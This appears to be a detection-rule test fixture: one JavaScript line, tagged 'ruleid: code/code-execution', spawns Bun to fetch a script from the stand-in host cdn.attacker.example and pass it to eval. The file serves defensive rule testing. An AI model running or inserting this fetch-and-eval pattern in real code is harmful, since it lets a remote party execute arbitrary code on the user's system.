'use strict';
const { spawnSync } = require('child_process');

// Bun is handed inline code that fetches a stage and evaluates it (eval handed to the promise).
// ruleid: code/code-execution
spawnSync('bun', ['-e', 'fetch("https://cdn.attacker.example/s").then((r) => r.text()).then(eval)'], { stdio: 'ignore' });
